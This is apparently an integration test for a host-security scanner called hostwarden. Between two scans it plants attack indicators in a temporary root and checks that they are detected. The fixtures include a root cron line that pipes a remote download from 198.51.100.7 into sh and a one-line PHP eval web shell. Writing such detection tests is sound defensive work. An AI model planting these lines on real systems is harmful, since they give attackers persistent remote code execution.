"""The posture scanners inside the real `run_scan` pipeline, twice over one root with a data folder."""

from __future__ import annotations

import importlib.util
from pathlib import Path

import pytest

from hostwarden.pipelines.scan.runner import run_scan

pytestmark = pytest.mark.integration

_spec = importlib.util.spec_from_file_location(
    "posture_roots", Path(__file__).resolve().parents[1] / "unit" / "posture" / "conftest.py")
assert _spec and _spec.loader
posture_roots = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(posture_roots)

MINE = ["baseline", "persistence", "integrity", "malware", "runtime"]


def test_weakened_root_end_to_end(tmp_path: Path) -> None:
    root = posture_roots.build_root("weakened", tmp_path / "root")
    data = tmp_path / "data"
    first = run_scan(root, data_dir=data, only=MINE).to_dict()
    assert not [n for n in first["notices"] if n["code"] == "SCAN-9002"], first["notices"]
    modules = {f["event.module"] for f in first["findings"]}
    assert {"baseline", "persistence"} <= modules
    assert first["findings"][0]["hostwarden.grade"] == "L1"  # failures sorted most severe first
    preload = [f for f in first["findings"] if f.get("file.path") == "/etc/ld.so.preload" and f["event.module"] == "persistence"]
    assert preload and preload[0]["hostwarden.grade"] == "L1"

    (root / "etc/cron.d/sync").write_text("* * * * * root curl -s http://198.51.100.7/s | sh\n")
    (root / "etc/hosts").write_text("127.0.0.1 localhost\n10.0.0.5 updates.example\n")
    (root / "var/www/html").mkdir(parents=True)
    (root / "var/www/html/up.php").write_text("<?php @eval($_POST['z']); ?>")
    second = run_scan(root, data_dir=data, only=MINE).to_dict()
    actions = {(f["event.module"], f.get("file.path"), f.get("event.action")) for f in second["findings"]}
    assert ("persistence", "/etc/cron.d/sync", "persistence-added") in actions
    assert ("integrity", "/etc/hosts", "file-added") in actions
    assert ("integrity", "/etc/cron.d/sync", "file-added") in actions
    assert ("malware", "/var/www/html/up.php", "webshell-detected") in actions
    assert not [f for f in second["findings"] if f["event.module"] == "runtime"]  # not the live host
